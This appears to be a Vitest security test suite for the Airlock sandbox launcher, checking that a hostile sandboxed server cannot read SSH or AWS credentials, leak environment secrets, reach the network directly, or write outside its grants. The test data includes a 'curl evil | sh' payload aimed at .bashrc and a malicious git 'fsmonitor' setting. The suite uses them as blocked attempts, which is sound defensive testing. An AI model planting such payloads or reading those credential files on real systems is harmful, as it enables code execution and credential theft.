/**
 * Hostile behaviour 8 (TESTING.md) on whatever platform this runs on —
 * Linux here, macOS and Windows on the CI runners — through that
 * platform's backend, with the behaviours the guarantees table promises on
 * every one, checked from outside (the files, the listeners). The
 * Linux-only details (bubblewrap's argv, EROFS) stay in escape.test.ts.
 *
 * With AIRLOCK_REQUIRE_SANDBOX=1, a machine that cannot sandbox FAILS the
 * first test with what is missing; without it the suite is skipped.
 */
import { mkdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaultSandboxProfile, type SandboxProfile } from '../../../shared/domain';
import { createSandboxLauncher, type AirlockSandboxLauncher } from '../../../electron/core/sandbox/sandbox-launcher';
import { sandboxRequirement } from './require-sandbox';
import { call, canaryListener, connect, ESCAPE_SERVER, makeWorld } from './sandbox-harness';

const probeLauncher = createSandboxLauncher();
const requirement = sandboxRequirement(probeLauncher.support());
await probeLauncher.close();

describe(`the sandbox on ${process.platform}`, () => {
  it.skipIf(requirement.run || requirement.failure === undefined)('can run here (AIRLOCK_REQUIRE_SANDBOX=1)', () => {
    throw new Error(requirement.failure);
  });
  it.skipIf(!requirement.run)('can run here', () => {
    expect(requirement.run).toBe(true);
  });
});

describe.skipIf(!requirement.run)(`a hostile server, sandboxed on ${process.platform}${requirement.skipReason ? ` — skipped: ${requirement.skipReason}` : ''}`, () => {
  let world: Awaited<ReturnType<typeof makeWorld>>;
  let launcher: AirlockSandboxLauncher;
  let canary: Awaited<ReturnType<typeof canaryListener>>;
  let api: { port: number; paths: string[]; close: () => Promise<void> };
  let granted: Awaited<ReturnType<typeof connect>>;
  let plain: Awaited<ReturnType<typeof connect>>;
  let grantedProxy: string;
  let readGrant: string;
  let writeGrant: string;

  beforeAll(async () => {
    world = await makeWorld();
    canary = await canaryListener();
    const paths: string[] = [];
    const server: Server = createServer((req, res) => {
      paths.push(req.url ?? '');
      res.end(`hello ${req.url}`);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    api = { port: (server.address() as { port: number }).port, paths, close: () => new Promise((resolve) => server.close(() => resolve())) };
    readGrant = join(world.home, 'notes');
    writeGrant = join(world.home, 'proj');
    await mkdir(readGrant, { recursive: true });
    await writeFile(join(readGrant, 'todo.md'), 'granted to read\n');
    // A repository at the top of the write grant: its config must stay as it is on every platform.
    await mkdir(join(writeGrant, '.git'), { recursive: true });
    await writeFile(join(writeGrant, '.git', 'config'), '[core]\n');
    process.env.AIRLOCK_TEST_CANARY_SECRET = 'canary-must-not-leak';
    launcher = createSandboxLauncher({ homeDir: world.home, runtimeDir: world.runtimeDir });
    const profile: SandboxProfile = {
      ...defaultSandboxProfile(),
      filesystem: { read: [readGrant], write: [writeGrant], persistentData: false },
      network: { allowedDomains: [`127.0.0.1:${api.port}`] },
      secrets: ['API_KEY'],
    };
    const spec = { command: process.execPath, args: [ESCAPE_SERVER], env: {} };
    const planGranted = await launcher.plan(spec, profile, world.context('granted', { secrets: { API_KEY: 'granted-secret', OTHER: 'not granted' } }));
    grantedProxy = planGranted.env.HTTP_PROXY!;
    const planPlain = await launcher.plan(spec, defaultSandboxProfile(), world.context('plain'));
    expect([planGranted.sandboxed, planPlain.sandboxed]).toEqual([true, true]);
    [granted, plain] = await Promise.all([connect(planGranted), connect(planPlain)]);
  });

  afterAll(async () => {
    delete process.env.AIRLOCK_TEST_CANARY_SECRET;
    await Promise.all([granted?.close(), plain?.close()]);
    await launcher?.close();
    await canary?.close();
    await api?.close();
    await rm(world.base, { recursive: true, force: true });
  });

  it("cannot read credentials, Airlock's data or the rest of home", async () => {
    for (const server of [granted, plain]) {
      expect(await call(server.client, 'read_file', { path: join(world.home, '.ssh', 'id_rsa') })).toMatchObject({ ok: false });
      expect(await call(server.client, 'read_file', { path: join(world.home, '.aws', 'credentials') })).toMatchObject({ ok: false });
      expect(await call(server.client, 'read_file', { path: join(world.airlockDataDir, 'store.json') })).toMatchObject({ ok: false });
      expect(await call(server.client, 'read_file', { path: join(world.home, 'notes.txt') })).toMatchObject({ ok: false });
    }
  });

  it('reads what it was granted; the other server does not', async () => {
    expect(await call(granted.client, 'read_file', { path: join(readGrant, 'todo.md') })).toMatchObject({ ok: true, text: 'granted to read\n' });
    // Windows: one shared sandbox user, so the other server may read it too (the weaker row says so).
    if (process.platform !== 'win32') expect(await call(plain.client, 'read_file', { path: join(readGrant, 'todo.md') })).toMatchObject({ ok: false });
  });

  it('writes only where granted, and the files elsewhere are unchanged', async () => {
    expect(await call(granted.client, 'write_file', { path: join(writeGrant, 'out.txt'), text: 'made by the server' })).toMatchObject({ ok: true });
    expect(await readFile(join(writeGrant, 'out.txt'), 'utf8')).toBe('made by the server');
    for (const path of [join(world.home, '.bashrc'), join(world.airlockDataDir, 'store.json'), join(readGrant, 'todo.md'), join(world.home, 'new-file')]) {
      expect((await call(granted.client, 'write_file', { path, text: 'curl evil | sh\n' })).ok).toBe(false);
    }
    expect(await readFile(join(world.home, '.bashrc'), 'utf8')).toBe('# original bashrc\n');
    expect(await readFile(join(world.airlockDataDir, 'store.json'), 'utf8')).toBe('{"secret":"airlock store"}\n');
    await expect(stat(join(world.home, 'new-file'))).rejects.toThrow();
  });

  it("cannot change the repository's config inside its write grant", async () => {
    expect((await call(granted.client, 'write_file', { path: join(writeGrant, '.git', 'config'), text: '[core]\n\tfsmonitor = evil\n' })).ok).toBe(false);
    expect(await readFile(join(writeGrant, '.git', 'config'), 'utf8')).toBe('[core]\n');
  });

  it('writes its own temporary home, which is not the real home', async () => {
    const env = await call(plain.client, 'read_env', { name: 'HOME' });
    expect(env.value).not.toBe(world.home);
    expect((await call(plain.client, 'write_file', { path: join(env.value, 'scratch.txt'), text: 'ok' })).ok).toBe(true);
  });

  it('reaches nothing directly, by IP or by name; the canary saw no connection', async () => {
    for (const server of [granted, plain]) {
      expect(await call(server.client, 'connect_tcp', { host: '127.0.0.1', port: canary.port })).toMatchObject({ ok: false });
      expect(await call(server.client, 'connect_tcp', { host: 'localhost', port: canary.port })).toMatchObject({ ok: false });
      expect(await call(server.client, 'connect_tcp', { host: 'example.com', port: 80 })).toMatchObject({ ok: false });
    }
    expect(canary.connections()).toBe(0);
  });

  it('reaches its granted host through its own proxy; the other server cannot use that proxy', async () => {
    expect(await call(granted.client, 'fetch_via_proxy', { url: `http://127.0.0.1:${api.port}/granted` })).toMatchObject({ ok: true, body: 'hello /granted' });
    // The other server tries the granted one's proxy, without its credential (it never had it).
    const url = new URL(grantedProxy);
    url.username = '';
    url.password = '';
    expect(await call(plain.client, 'fetch_via_proxy', { url: `http://127.0.0.1:${api.port}/stolen`, proxy: url.toString() })).toMatchObject({ ok: false });
    expect(api.paths).toEqual(['/granted']);
  });

  it("sees none of Airlock's environment, only its grants", async () => {
    expect((await call(granted.client, 'read_env', { name: 'AIRLOCK_TEST_CANARY_SECRET' })).value).toBeNull();
    expect((await call(granted.client, 'read_env', { name: 'OTHER' })).value).toBeNull();
    expect((await call(granted.client, 'read_env', { name: 'API_KEY' })).value).toBe('granted-secret');
    expect((await call(plain.client, 'read_env', { name: 'API_KEY' })).value).toBeNull();
  });
});
